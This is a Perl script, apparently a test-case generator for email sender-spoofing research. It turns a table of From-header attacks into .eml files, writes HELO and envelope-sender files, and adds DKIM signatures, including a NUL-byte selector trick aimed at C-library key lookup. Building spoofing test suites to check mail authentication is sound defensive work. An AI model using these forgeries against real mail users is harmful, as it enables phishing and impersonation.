#!/usr/bin/perl
# espoofer.pl TABLE DIR TIME: the cases of a table of attacks on From, as mails.
#
# The table has lines of ID, HELO, MAIL FROM, the From field(s), what to sign with, further fields and a description,
# parted by tabs and written as Python's byte strings.  DIR gets ID.eml, ID.helo and ID.from, and keys.txt.
# A server's attacker owns attack.com: ID+signed is the same mail, signed by that domain as well.  A client's has an
# account at the provider of the one he forges, which signs what its accounts send.
use strict;
use warnings;
use Digest::SHA 'sha256';
use MIME::Base64;

my ($table, $dir, $now) = @ARGV;
my $to = 'assemblies@lists.example';
my %published;

# A literal, or several of them with a plus between, or bs64encode() of one.
sub bytes {
	my ($text) = @_;
	my $out = '';
	while ($text =~ /(bs64encode\()?b"((?:[^"\\]|\\.)*)"/g) {
		my ($word, $s) = ($1, $2);
		$s =~ s/\\(x[0-9a-fA-F]{2}|[rnt\\"])/
		    my $e = $1; $e =~ m{^x(..)} ? chr hex $1 : {r => "\r", n => "\n", t => "\t"}->{$e} \/\/ $e/ge;
		$out .= $word ? '=?utf-8?B?' . encode_base64($s, '') . '?=' : $s;
	}
	return $out;
}

sub put {
	my ($name, $data) = @_;
	open my $f, '>:raw', "$dir/$name" or die "$name: $!\n";
	print $f $data;
	close $f or die "$name: $!\n";
}

sub openssl {
	my ($data, @args) = @_;
	put('.in', $data);
	open my $p, '-|:raw', 'openssl', @args, "$dir/.in" or die "openssl: $!\n";
	my $out = do { local $/; <$p> };
	close $p or die "openssl: $?\n";
	return $out;
}

# The name under which a C library looks the key up: it ends at a NUL.
sub publish {
	my ($selector, $domain) = @_;
	my ($name) = split /\0/, "$selector._domainkey.$domain";
	$name =~ s/\.$//;
	$published{$name} = 1;
}

sub sign {
	my ($mail, $domain, $selector) = @_;
	my ($head, $body) = split /(?<=\r\n)\r\n/, $mail, 2;
	my @fields = split /(?<=\r\n)(?![ \t])/, $head;
	my @names;
	for (@fields) {
		push @names, lc $1 if /^\s*([^:\s]+)\s*:/;
	}
	my $sig = "DKIM-Signature: v=1; a=rsa-sha256; c=simple/simple; d=$domain; s=$selector; t=$now;\r\n" .
	    "\th=" . join(':', @names) . ";\r\n\tbh=" . encode_base64(sha256($body), '') . ";\r\n\tb=";
	my $text = '';
	my @left = @fields;
	for my $name (@names) {		# from the bottom up
		for my $i (reverse 0 .. $#left) {
			next if $left[$i] !~ /^\s*\Q$name\E\s*:/i;
			$text .= splice @left, $i, 1;
			last;
		}
	}
	publish($selector, $domain);
	return $sig . encode_base64(openssl($text . $sig, 'dgst', '-sha256', '-sign', "$dir/key.pem"), '') . "\r\n" . $mail;
}

sub dkim_of {
	my ($para) = @_;
	my %p;
	$p{$1} = bytes($2) while $para =~ /"(\w+)":\s*(b"[^"]*")/g;
	return @p{'d', 's'};
}

system('openssl', 'genrsa', '-out', "$dir/key.pem", '2048') == 0 or die "openssl: no key\n";
open my $in, '<', $table or die "$table: $!\n";
my $date = do {
	my @t = gmtime $now;
	sprintf '%s, %02d %s %d %02d:%02d:%02d +0000', (qw(Sun Mon Tue Wed Thu Fri Sat))[$t[6]], $t[3],
	    (qw(Jan Feb Mar Apr May Jun Jul Aug Sep Oct Nov Dec))[$t[4]], $t[5] + 1900, @t[2, 1, 0];
};
while (<$in>) {
	chomp;
	next if /^#/;
	my ($id, $helo, $envelope, $from, $para, $other, undef) = split /\t/;
	my $head = bytes($from);
	$head .= "\r\n" if $head !~ /\r\n\z/;
	for my $signed ('', '+signed') {
		next if $signed ne '' && ($id =~ /^client/ || $para ne '');
		my $mail = $head . "To: $to\r\nSubject: $id$signed\r\nDate: $date\r\n" .
		    "Message-ID: <$id$signed.$now\@attack.com>\r\n" . ($other ne '' ? "$other\r\n" : '') .
		    "MIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nHi, this is a test.\r\n";
		if ($para ne '') {
			$mail = sign($mail, dkim_of($para));
		} elsif ($id =~ /^client/) {
			$mail = sign($mail, 'example.com', 'mail');
		} elsif ($signed ne '') {
			$mail = sign($mail, 'attack.com', 'mail');
		}
		put("$id$signed.eml", $mail);
		put("$id$signed.helo", bytes($helo));
		put("$id$signed.from", bytes($envelope) =~ s/^<|>$//gr);
	}
}
open my $p, '-|:raw', 'openssl', 'rsa', '-in', "$dir/key.pem", '-pubout', '-outform', 'DER' or die "openssl: $!\n";
my $key = encode_base64(do { local $/; <$p> }, '');
close $p or die "openssl: $?\n";
put('keys.txt', join '', map { "$_ v=DKIM1; k=rsa; p=$key\n" } sort keys %published);
